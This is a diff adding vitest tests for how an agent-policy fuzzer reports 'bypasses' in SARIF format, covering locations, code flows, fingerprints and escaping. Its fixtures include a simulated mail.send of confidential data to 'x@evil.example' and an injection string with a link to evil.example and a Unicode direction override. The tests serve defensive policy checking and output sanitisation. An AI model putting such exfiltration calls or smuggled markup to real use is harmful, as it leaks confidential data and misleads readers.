@@ -1,4 +1,5 @@
 import { expect, it } from "vitest";
+import { placeOf, sarifRun } from "../../../test/builders/sarif-run.js";
 import { render } from "./render.js";
 import type { FuzzReport } from "./report.js";
 
@@ -80,6 +81,15 @@ const report: FuzzReport = {
   },
   written: new Map([["confidentialLeaves", "scenarios/fuzz/confidential-leaves.yaml"]]),
   strict: false,
+  rulePlaces: new Map([
+    ["crm/reads", { file: "policies/crm.policy.ts", line: 8, column: 14, endLine: 8, endColumn: 40 }],
+  ]),
+  goalPlaces: new Map(
+    ["confidentialLeaves", "overspend", "drugsLeave"].map((name, i) => [
+      name,
+      { file: "policies/crm.goals.ts", line: 3 + i, column: 14, endLine: 3 + i, endColumn: 30 },
+    ]),
+  ),
 };
 
 it("prints a bypass as a chain of calls that reads like a story", () => {
@@ -184,4 +194,68 @@ it("claims nothing for a policy that remembers stopped calls, though all that is
   expect(said([])).toContain("none can be reached in these worlds");
   expect(said(["crm/guesses"])).not.toContain("none can be reached");
   expect(said(["crm/guesses"])).toContain("what follows from a stopped call was not searched: crm/guesses");
+});
+
+const results = (of: FuzzReport) => sarifRun(render(of, "sarif", false)).results ?? [];
+
+it("gives a bypass as a result of SARIF where its last call was allowed, with the goal and the scenario", () => {
+  const [found] = results(report);
+  expect(found).toMatchObject({ ruleId: "goal/confidentialLeaves", level: "error" });
+  expect(placeOf(found?.locations?.[0])).toBe("policies/crm.policy.ts:8:14");
+  expect(found?.relatedLocations?.map((at) => [at.id, at.message?.text, placeOf(at)])).toEqual([
+    [1, "the goal confidentialLeaves", "policies/crm.goals.ts:3:14"],
+    [2, "scenarios/fuzz/confidential-leaves.yaml", "scenarios/fuzz/confidential-leaves.yaml"],
+  ]);
+  expect(found?.message.text).toBe(
+    "Confidential data leaves: data labelled `confidential` has reached `x@evil.example`, by 2 calls in the world office, each allowed; see [the goal confidentialLeaves](1), [scenarios/fuzz/confidential-leaves.yaml](2)",
+  );
+});
+
+it("gives the calls of a bypass as a code flow of SARIF, each at the rule that allowed it", () => {
+  const flow = results(report)[0]?.codeFlows?.[0]?.threadFlows[0]?.locations ?? [];
+  expect(flow.map((at) => [at.executionOrder, at.importance, placeOf(at.location)])).toEqual([
+    [1, "essential", "policies/crm.policy.ts:8:14"],
+    [2, "essential", "policies/crm.policy.ts:8:14"],
+  ]);
+  expect(flow[1]?.location?.message?.text).toBe(
+    '1h later, agent-a in s1: mail.send(to: ["x@evil.example"], body: "a"); allow by crm/reads; reads data that carries `confidential`',
+  );
+});
+
+it("stands a bypass at its goal where the place of no rule is known", () => {
+  const [found] = results({ ...report, rulePlaces: new Map() });
+  expect(placeOf(found?.locations?.[0])).toBe("policies/crm.goals.ts:3:14");
+});
+
+it("gives a goal that nothing reaches as a result of SARIF at the goal, an error where it is strict", () => {
+  const [, vacuous, ...more] = results({ ...report, strict: true });
+  expect(more).toEqual([]);
+  expect(vacuous).toMatchObject({ ruleId: "goal/drugsLeave", level: "error" });
+  expect(placeOf(vacuous?.locations?.[0])).toBe("policies/crm.goals.ts:5:14");
+  expect(results(report)[1]?.level).toBe("warning");
+});
+
+it("knows a goal that is reached again when another chain reaches it", () => {
+  const print = (steps: readonly (typeof step)[]) => {
+    const goals = report.result.goals.map((goal) =>
+      goal.bypass === null ? goal : { ...goal, bypass: { ...goal.bypass, steps } },
+    );
+    return results({ ...report, result: { ...report.result, goals } })[0]?.partialFingerprints;
+  };
+  expect(print([step])).toEqual(results(report)[0]?.partialFingerprints);
+});
+
+it("lets no text of a world be a link or a line of its own in SARIF", () => {
+  const odd = { ...step, arguments: { body: "[x](http://evil.example)\u202e" }, adds: "a\nb" };
+  const goals = report.result.goals.map((goal) =>
+    goal.bypass === null
+      ? goal
+      : { ...goal, title: "A\u0007 b](1)", bypass: { ...goal.bypass, steps: [odd] } },
+  );
+  const text = render({ ...report, result: { ...report.result, goals } }, "sarif", false);
+  const [found] = sarifRun(text).results ?? [];
+  expect(found?.message.text).toMatch(/^A\\u\{7\} b\\\]\(1\): /);
+  expect(found?.codeFlows?.[0]?.threadFlows[0]?.locations[0]?.location?.message?.text).toBe(
+    'agent-a in s1: crm.read(body: "[x\\](http://evil.example)\\u{202e}"); allow by crm/reads; a\\nb',
+  );
 });
